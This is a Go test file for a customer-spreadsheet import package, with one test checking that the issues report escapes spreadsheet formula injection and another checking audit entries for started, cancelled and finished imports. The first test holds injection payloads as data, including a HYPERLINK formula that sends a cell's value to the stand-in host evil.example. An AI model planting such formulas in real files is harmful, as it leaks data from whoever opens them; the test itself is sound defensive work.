package transfer

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"strings"
	"testing"
)

// TestImportReportEscapesFormulas imports rows whose rejected and dropped
// values are formulas and checks that the issues CSV, which the person
// fixing the sheet opens in Excel, carries them escaped as the customer
// export does: no cell starts with = + - or @.
func TestImportReportEscapesFormulas(t *testing.T) {
	ctx := testContext(t)
	db := openStore(t)
	seedStaff(t, db)
	hyperlink := `=HYPERLINK("http://evil.example/?x="&A1,"点我")`
	sheet := "姓名,手机,邮箱\n" +
		"张三,13900139000," + csvQuote(hyperlink) + "\n" +
		"李四,13800138000,@SUM(1+1)\n" +
		"王五,=cmd,\n"
	tb, err := ReadTable("f.csv", strings.NewReader(sheet), "")
	if err != nil {
		t.Fatal(err)
	}
	rep, err := Import(ctx, db, tb, ImportOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Issues) < 3 {
		t.Fatalf("issues %+v, want the phone, the email and the second phone", rep.Issues)
	}
	var buf bytes.Buffer
	if err := rep.WriteIssuesCSV(&buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), utf8BOM))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("report cell %q would run as a formula", cell)
			}
			seen[unescapeCell(cell)] = true
		}
	}
	for _, v := range []string{hyperlink, "@SUM(1+1)", "=cmd"} {
		if !seen[v] {
			t.Errorf("the report lost %q (cells %q)", v, recs)
		}
	}
}

func csvQuote(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }

// TestImportAuditsStartAndEnd: the audit log says an import started before
// its first write, so an import killed halfway is not silent; a cancelled
// run is audited as failed, and a finished one with its counts.
func TestImportAuditsStartAndEnd(t *testing.T) {
	ctx := testContext(t)
	db := openStore(t)
	seedStaff(t, db)
	var sheet strings.Builder
	sheet.WriteString("姓名,手机\n")
	for i := range 1200 { // more than one batch
		fmt.Fprintf(&sheet, "客户%d,1380013%04d\n", i, i)
	}
	tb, err := ReadTable("kill.csv", strings.NewReader(sheet.String()), "")
	if err != nil {
		t.Fatal(err)
	}
	details := func() []string {
		entries, err := db.FindAudit(ctx, "customers", 0, 100)
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, e := range entries {
			if e.Action == "import" {
				out = append(out, e.Detail)
			}
		}
		return out
	}
	cctx, cancel := context.WithCancel(ctx)
	var midway []string
	_, err = Import(cctx, db, tb, ImportOptions{Actor: "ops", ProgressEvery: 100, Progress: func(p Progress) {
		if p.Done < p.Total && midway == nil {
			midway = details() // what a kill at this point would leave
			cancel()
		}
	}})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("import: %v, want it cancelled", err)
	}
	if len(midway) != 1 || !strings.Contains(midway[0], "kill.csv started: rows=1200") {
		t.Errorf("audit while writing: %q, want the start entry", midway)
	}
	if got := details(); len(got) != 2 || !strings.Contains(got[0]+got[1], "failed") {
		t.Errorf("audit after the cancelled import: %q, want start and failure", got)
	}
	if _, err := Import(ctx, db, tb, ImportOptions{Actor: "ops"}); err != nil {
		t.Fatal(err)
	}
	if got := details(); len(got) != 4 || !strings.Contains(got[0]+got[1], "rows=1200 created=") {
		t.Errorf("audit after a full import: %q, want its start and its counts", got)
	}
}
